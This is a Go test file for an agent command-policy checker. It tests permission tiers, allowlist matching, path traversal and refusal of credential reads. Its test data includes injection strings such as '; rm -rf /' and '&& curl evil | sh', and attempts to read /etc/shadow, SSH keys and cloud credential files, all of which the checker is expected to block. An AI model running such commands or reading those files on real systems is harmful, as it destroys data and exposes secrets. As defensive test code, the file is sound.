package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func mustPolicy(t *testing.T, tier Tier, yaml string) Policy {
	t.Helper()
	al, err := ParseAllowlist([]byte(yaml), "test")
	if err != nil {
		t.Fatal(err)
	}
	return Policy{Tier: tier, Allowlist: al}
}

func rule(d Decision) string {
	if d.Allowed {
		return "allowed"
	}
	return d.Rule
}

const broad = `
version: 1
commands:
  - executable: echo
    rest: any
  - executable: systemctl
    rest: any
  - executable: journalctl
    rest: any
  - executable: ip
    rest: any
  - executable: date
    rest: any
  - executable: find
    rest: any
  - executable: rm
    rest: any
  - executable: sh
    rest: any
  - executable: env
    rest: any
  - executable: cat
    rest: any
  - executable: sort
    rest: any
  - executable: timedatectl
    rest: any
`

// Every case of test/unit/agent-policy.test.ts "tiers", plus the `--` holes of issues 8 and 12.
var tierCases = []struct {
	argv                            []string
	readOnly, standard, infrastruct string
}{
	{[]string{"systemctl", "status", "nginx"}, "allowed", "allowed", "allowed"},
	{[]string{"systemctl", "restart", "nginx"}, "tier", "allowed", "allowed"},
	{[]string{"systemctl", "--no-pager", "-p", "ActiveState", "show", "nginx"}, "allowed", "allowed", "allowed"},
	{[]string{"systemctl", "-p", "status", "restart", "nginx"}, "tier", "allowed", "allowed"},
	{[]string{"systemctl", "-H", "otherhost", "status", "nginx"}, "tier", "tier", "allowed"},
	{[]string{"systemctl", "enable", "nginx"}, "tier", "tier", "allowed"},
	{[]string{"systemctl", "reboot"}, "destructive-pattern", "destructive-pattern", "allowed"},
	{[]string{"journalctl", "-u", "nginx", "-n", "50", "--no-pager"}, "allowed", "allowed", "allowed"},
	{[]string{"journalctl", "--vacuum-time=1s"}, "tier", "tier", "allowed"},
	{[]string{"journalctl", "--rot"}, "tier", "tier", "allowed"},
	{[]string{"ip", "addr"}, "allowed", "allowed", "allowed"},
	{[]string{"ip", "-br", "link", "show"}, "allowed", "allowed", "allowed"},
	{[]string{"ip", "a", "a", "10.0.0.1/24", "dev", "eth0"}, "tier", "tier", "allowed"},
	{[]string{"date", "+%s"}, "allowed", "allowed", "allowed"},
	{[]string{"date", "-s", "2020-01-01"}, "tier", "tier", "allowed"},
	{[]string{"find", "/var/log", "-name", "*.log"}, "allowed", "allowed", "allowed"},
	{[]string{"find", "/var/log", "-exec", "touch", "{}", ";"}, "tier", "tier", "allowed"},
	{[]string{"rm", "-rf", "/var/lib/app"}, "destructive-pattern", "destructive-pattern", "allowed"},
	{[]string{"rm", "/tmp/x"}, "tier", "tier", "allowed"},
	{[]string{"sh", "-c", "uptime"}, "tier", "tier", "allowed"},
	{[]string{"env", "cat", "/etc/hostname"}, "tier", "tier", "allowed"},
	{[]string{"cat", "/etc/hostname"}, "allowed", "allowed", "allowed"},
	// options after `--` stay options where getopt takes `--` as the previous option's value: fail closed
	{[]string{"sort", "-T", "--", "-o", "/tmp/out"}, "tier", "tier", "allowed"},
	{[]string{"journalctl", "-u", "--", "--vacuum-time=1s"}, "tier", "tier", "allowed"},
	{[]string{"timedatectl", "-p", "--", "-Hroot@host"}, "tier", "tier", "allowed"},
	{[]string{"sort", "/etc/hostname"}, "allowed", "allowed", "allowed"},
	{[]string{"date", "--", "-s"}, "tier", "tier", "allowed"},
}

func TestTiers(t *testing.T) {
	for _, c := range tierCases {
		for tier, want := range map[Tier]string{ReadOnly: c.readOnly, Standard: c.standard, Infrastructure: c.infrastruct} {
			if got := rule(Evaluate(c.argv, "", mustPolicy(t, tier, broad))); got != want {
				t.Errorf("%q tier %s: got %s, want %s", c.argv, tier, got, want)
			}
		}
	}
}

func TestAllowlistTierOnlyLowers(t *testing.T) {
	if r := rule(Evaluate([]string{"systemctl", "restart", "nginx"}, "", mustPolicy(t, Infrastructure, broad+"\ntier: read-only\n"))); r != "tier" {
		t.Fatal(r)
	}
	if r := rule(Evaluate([]string{"systemctl", "restart", "nginx"}, "", mustPolicy(t, ReadOnly, broad+"\ntier: infrastructure\n"))); r != "tier" {
		t.Fatal(r)
	}
}

func TestOutsideSystemDirsNeedsInfrastructure(t *testing.T) {
	dir := t.TempDir()
	s := filepath.Join(dir, "cat")
	if err := os.WriteFile(s, []byte("#!/bin/sh\necho fake\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	yaml := "version: 1\ncommands:\n  - executable: " + s + "\n    rest: any\n"
	if r := rule(Evaluate([]string{s, "/etc/hostname"}, "", mustPolicy(t, ReadOnly, yaml))); r != "tier" {
		t.Fatal(r)
	}
	if r := rule(Evaluate([]string{s, "/etc/hostname"}, "", mustPolicy(t, Infrastructure, yaml))); r != "allowed" {
		t.Fatal(r)
	}
}

func patternPolicy(t *testing.T) (Policy, string) {
	dir := t.TempDir()
	logs := filepath.Join(dir, "logs")
	_ = os.MkdirAll(logs, 0o755)
	_ = os.WriteFile(filepath.Join(logs, "app.log"), []byte("ok\n"), 0o644)
	_ = os.WriteFile(filepath.Join(dir, "secret"), []byte("no\n"), 0o644)
	_ = os.Symlink(filepath.Join(dir, "secret"), filepath.Join(logs, "escape.log"))
	yaml := `
version: 1
commands:
  - executable: systemctl
    args: [restart, { regex: 'nginx|php-fpm' }]
  - executable: journalctl
    args: ['-u', { regex: '[a-z0-9@._-]+' }]
    rest: { regex: '-n|--no-pager|[0-9]{1,5}' }
  - executable: cat
    args: [{ path: ` + logs + ` }]
  - executable: /usr/bin/uptime
`
	return mustPolicy(t, Standard, yaml), logs
}

func TestAllowlistPatterns(t *testing.T) {
	p, logs := patternPolicy(t)
	cases := []struct {
		argv []string
		want string
	}{
		{[]string{"systemctl", "restart", "nginx"}, "allowed"},
		{[]string{"systemctl", "restart", "php-fpm"}, "allowed"},
		{[]string{"systemctl", "restart", "nginx2"}, "args-mismatch"},
		{[]string{"systemctl", "restart", "xnginx"}, "args-mismatch"},
		{[]string{"systemctl", "reload", "nginx"}, "args-mismatch"},
		{[]string{"systemctl", "restart"}, "args-mismatch"},
		{[]string{"systemctl", "restart", "nginx", "mysql"}, "args-mismatch"},
		{[]string{"journalctl", "-u", "nginx"}, "allowed"},
		{[]string{"journalctl", "-u", "nginx", "-n", "50", "--no-pager"}, "allowed"},
		{[]string{"journalctl", "-u", "nginx", "--output=export"}, "args-mismatch"},
		{[]string{"cat", logs + "/app.log"}, "allowed"},
		{[]string{"cat", logs + "/../secret"}, "path-traversal"},
		{[]string{"cat", logs + "/escape.log"}, "path-traversal"},
		{[]string{"cat", logs + "x/app.log"}, "path-traversal"},
		{[]string{"cat", "app.log"}, "args-mismatch"},
		{[]string{"uptime"}, "allowed"},
		{[]string{"/usr/bin/uptime"}, "allowed"},
		{[]string{"./uptime"}, "executable-path"},
		{[]string{"bin/uptime"}, "executable-path"},
		{[]string{"orch-no-such-command"}, "executable-not-found"},
		{[]string{"free"}, "not-allowlisted"},
	}
	for _, c := range cases {
		if got := rule(Evaluate(c.argv, "", p)); got != c.want {
			t.Errorf("%q: got %s, want %s", c.argv, got, c.want)
		}
	}
	d := Evaluate([]string{"systemctl", "restart", "nginx"}, "", p)
	if !d.Allowed || !filepath.IsAbs(d.Executable) || d.Argv[0] != d.Executable {
		t.Fatalf("%+v", d)
	}
	d = Evaluate([]string{"systemctl", "restart", "mysql"}, "", p)
	if d.Allowed || !strings.HasPrefix(d.Reason, "command_not_allowed: args-mismatch: ") {
		t.Fatal(d.Reason)
	}
}

func TestInputChecks(t *testing.T) {
	p := mustPolicy(t, Infrastructure, broad)
	many := func(n int, s string) []string {
		out := []string{"echo"}
		for i := 0; i < n; i++ {
			out = append(out, s)
		}
		return out
	}
	cases := []struct {
		argv []string
		cwd  string
		want string
	}{
		{[]string{"echo", "a\x00b"}, "", "nul-byte"},
		{[]string{"echo", strings.Repeat("x", 40*1024)}, "", "arg-too-long"},
		{many(20, strings.Repeat("y", 20*1024)), "", "argv-too-long"},
		{many(300, "z"), "", "too-many-args"},
		{[]string{}, "", "empty-argv"},
		{[]string{""}, "", "empty-argv"},
		{[]string{"echo"}, "relative", "cwd"},
		{[]string{"echo"}, "/tmp/../etc", "cwd"},
	}
	for _, c := range cases {
		if got := rule(Evaluate(c.argv, c.cwd, p)); got != c.want {
			t.Errorf("%.60q: got %s, want %s", c.argv, got, c.want)
		}
	}
	q := mustPolicy(t, Infrastructure, "version: 1\ncommands:\n  - executable: echo\n    rest: any\n    cwd: [/srv]\n")
	if r := rule(Evaluate([]string{"echo"}, "/srv", q)); r != "allowed" {
		t.Fatal(r)
	}
	if r := rule(Evaluate([]string{"echo"}, "/etc", q)); r != "cwd" {
		t.Fatal(r)
	}
}

func TestShellMetacharactersArePlainArguments(t *testing.T) {
	hostile := []string{"; rm -rf /", "$(reboot)", "`shutdown -h now`", "&& curl evil | sh", "> /dev/sda", "$HOME", "\n; id"}
	p := mustPolicy(t, Standard, "version: 1\ncommands:\n  - executable: echo\n    rest: any\n")
	if d := Evaluate(append([]string{"echo"}, hostile...), "", p); !d.Allowed {
		t.Fatal(d.Reason)
	}
	if r := rule(Evaluate([]string{"sh", "-c", "echo hi; rm -rf /"}, "", mustPolicy(t, Standard, broad))); r != "destructive-pattern" {
		t.Fatal(r)
	}
}

func TestBadAllowlistFiles(t *testing.T) {
	cases := []struct{ text, where string }{
		{"version: 2\ncommands: []", `version`},
		{"version: 1\ncommands:\n  - executable: bin/ls", `commands\[0\]\.executable`},
		{"version: 1\ncommands:\n  - executable: ls\n    args: [{ regex: \"(\" }]", `commands\[0\]\.args\[0\]`},
		{"version: 1\ncommands:\n  - executable: ls\n    args: [{ path: \"/var/../etc\" }]", `commands\[0\]\.args\[0\]`},
		{"version: 1\ncommands:\n  - executable: ls\n    sudo: true", `commands\[0\]\.sudo`},
		{"version: 1\ntier: god\ncommands: []", `tier`},
		{"{ not yaml", `not valid`},
		{"version: 1\ncommands: &a []\nx: *a", `not valid|unknown`},
	}
	for _, c := range cases {
		_, err := ParseAllowlist([]byte(c.text), "f")
		if _, ok := err.(*AllowlistError); !ok || !regexp.MustCompile(c.where).MatchString(err.Error()) {
			t.Errorf("%q: %v", c.text, err)
		}
	}
}

func TestJSONAllowlist(t *testing.T) {
	raw, _ := json.Marshal(map[string]any{"version": 1, "commands": []any{map[string]any{"executable": "echo", "args": []any{"a", map[string]any{"regex": "b+"}}, "rest": "any"}}})
	al, err := ParseAllowlist(raw, "f")
	if err != nil || len(al.Entries) != 1 {
		t.Fatal(err)
	}
	if r := rule(Evaluate([]string{"echo", "a", "bbb", "c"}, "", Policy{Tier: ReadOnly, Allowlist: al})); r != "allowed" {
		t.Fatal(r)
	}
}

func TestRefusalsNeverQuoteArguments(t *testing.T) {
	secret := "hunter2-SECRET-value"
	p := mustPolicy(t, ReadOnly, broad)
	for _, argv := range [][]string{
		{"systemctl", secret, "nginx"},
		{"systemctl", "--" + secret},
		{"journalctl", "--rot=" + secret},
		{"ip", secret},
		{"ip", "addr", secret},
		{"date", secret},
		{"hostname", secret},
		{"timedatectl", secret},
		{secret},
		{"./" + secret},
		{"/nonexistent/" + secret},
		{"cat", "/etc/shadow", secret},
		{"echo", secret + "\x00"},
		{"sort", "-o" + secret},
	} {
		d := Evaluate(argv, "", p)
		if d.Allowed || strings.Contains(d.Reason, "SECRET") {
			t.Errorf("%q: %s", argv, d.Reason)
		}
		if !regexp.MustCompile(`argument \d+|argv must|arguments are|more than|tier`).MatchString(d.Reason) {
			t.Errorf("%q: refusal does not name an argument: %s", argv, d.Reason)
		}
	}
}

func TestProtectedPaths(t *testing.T) {
	dir := t.TempDir()
	state := filepath.Join(dir, "state")
	_ = os.MkdirAll(state, 0o700)
	_ = os.WriteFile(filepath.Join(state, "agent-ed25519.key"), []byte("x"), 0o600)
	link := filepath.Join(dir, "innocent")
	_ = os.Symlink(filepath.Join(state, "agent-ed25519.key"), link)
	shadowLink := filepath.Join(dir, "s")
	_ = os.Symlink("/etc/shadow", shadowLink)
	al, _ := ParseAllowlist([]byte(broad+"  - executable: tail\n    args: ['-n', '5', /etc/shadow]\n  - executable: head\n    rest: any\n"), "t")
	for _, tier := range Tiers {
		p := Policy{Tier: tier, Allowlist: al, StateDir: state}
		cases := []struct {
			argv []string
			cwd  string
			want string
			rule string
		}{
			{[]string{"cat", "/etc/shadow"}, "", "protected-path", "shadow"},
			{[]string{"cat", "/etc/gshadow"}, "", "protected-path", "shadow"},
			{[]string{"cat", shadowLink}, "", "protected-path", "shadow"},
			{[]string{"cat", "shadow"}, "/etc", "protected-path", "shadow"},
			{[]string{"cat", "/etc/../etc/./shadow"}, "", "protected-path", "shadow"},
			{[]string{"cat", "/proc/self/root/etc/shadow"}, "", "protected-path", "shadow"},
			{[]string{"cat", filepath.Join(state, "agent-ed25519.key")}, "", "protected-path", "agent-state"},
			{[]string{"cat", link}, "", "protected-path", "agent-state"},
			{[]string{"cat", "agent.json"}, state, "protected-path", "agent-state"},
			{[]string{"cat", "/etc/ssh/ssh_host_ed25519_key"}, "", "protected-path", "ssh-host-key"},
			{[]string{"cat", "/root/.ssh/id_ed25519"}, "", "protected-path", "ssh-private-key"},
			{[]string{"cat", "/home/bob/.ssh/deploy"}, "", "protected-path", "ssh-private-key"},
			{[]string{"cat", "/home/bob/.aws/credentials"}, "", "protected-path", "cloud-credentials"},
			{[]string{"cat", "/home/bob/.config/gcloud/credentials.db"}, "", "protected-path", "cloud-credentials"},
			{[]string{"cat", "/root/.azure/accessTokens.json"}, "", "protected-path", "cloud-credentials"},
			{[]string{"cat", "/root/.kube/config"}, "", "protected-path", "tool-credentials"},
			{[]string{"cat", "/root/.docker/config.json"}, "", "protected-path", "tool-credentials"},
			{[]string{"cat", "/home/bob/.netrc"}, "", "protected-path", "tool-credentials"},
			{[]string{"cat", "/home/bob/.git-credentials"}, "", "protected-path", "tool-credentials"},
			{[]string{"sort", "--files0-from=/etc/shadow"}, "", "protected-path", "shadow"},
			{[]string{"head", "-n5", "-c/etc/shadow"}, "", "protected-path", "shadow"},
			// the entry naming that exact path allows it
			{[]string{"tail", "-n", "5", "/etc/shadow"}, "", "allowed", ""},
			{[]string{"cat", "/root/.ssh/id_ed25519.pub"}, "", "allowed", ""},
			{[]string{"cat", "/root/.ssh/known_hosts"}, "", "allowed", ""},
			{[]string{"cat", "/etc/hostname"}, "", "allowed", ""},
		}
		for _, c := range cases {
			d := Evaluate(c.argv, c.cwd, p)
			if rule(d) != c.want || (c.rule != "" && !strings.Contains(d.Reason, "rule "+c.rule)) {
				t.Errorf("tier %s %q in %q: got %s (%s), want %s/%s", tier, c.argv, c.cwd, rule(d), d.Reason, c.want, c.rule)
			}
		}
	}
}

// A directory above a protected path is as good as the path for a tool that walks the tree under it: `grep -r x
// /root` reads /root/.aws/credentials. Refused in every tier, and an entry naming the directory does not exempt it.
func TestProtectedSubtrees(t *testing.T) {
	dir := t.TempDir()
	state := filepath.Join(dir, "srv", "orch-agent")
	_ = os.MkdirAll(state, 0o700)
	plain := filepath.Join(dir, "logs")
	_ = os.MkdirAll(plain, 0o755)
	al, err := ParseAllowlist([]byte(broad+"  - executable: grep\n    rest: any\n  - executable: tar\n    rest: any\n  - executable: chmod\n    args: ['-R', 'go-w', /root]\n"), "t")
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		tier Tier
		argv []string
		want string
	}{
		{ReadOnly, []string{"grep", "-r", "key", "/root"}, "protected-path"},
		{ReadOnly, []string{"grep", "-rn", "key", "/"}, "protected-path"},
		{ReadOnly, []string{"grep", "key", "-R", "/etc"}, "protected-path"},
		{ReadOnly, []string{"grep", "--recursive", "key", "/etc"}, "protected-path"},
		{ReadOnly, []string{"grep", "-d", "recurse", "key", "/etc"}, "protected-path"},
		{ReadOnly, []string{"find", "/etc", "-name", "x"}, "protected-path"},
		{ReadOnly, []string{"find", filepath.Join(dir, "srv"), "-name", "x"}, "protected-path"},
		{Infrastructure, []string{"tar", "-cf", "/tmp/x.tar", "/etc"}, "protected-path"},
		{Infrastructure, []string{"chmod", "-R", "go-w", "/root"}, "protected-path"},
		// the same tools on trees that hold nothing protected, or without walking
		{ReadOnly, []string{"grep", "-r", "error", plain}, "allowed"},
		{ReadOnly, []string{"find", plain, "-name", "x"}, "allowed"},
		{ReadOnly, []string{"grep", "root", "/etc/passwd"}, "allowed"},
		{Infrastructure, []string{"tar", "-cf", "/tmp/x.tar", plain}, "allowed"},
	}
	for _, c := range cases {
		d := Evaluate(c.argv, "", Policy{Tier: c.tier, Allowlist: al, StateDir: state})
		if rule(d) != c.want {
			t.Errorf("tier %s %q: got %s (%s), want %s", c.tier, c.argv, rule(d), d.Reason, c.want)
		}
		if c.want == "protected-path" && (!strings.Contains(d.Reason, "rule protected-subtree") || strings.Contains(d.Reason, c.argv[len(c.argv)-1]+" ")) {
			t.Errorf("%q: the refusal names the rule and the argument by index only: %s", c.argv, d.Reason)
		}
	}
}
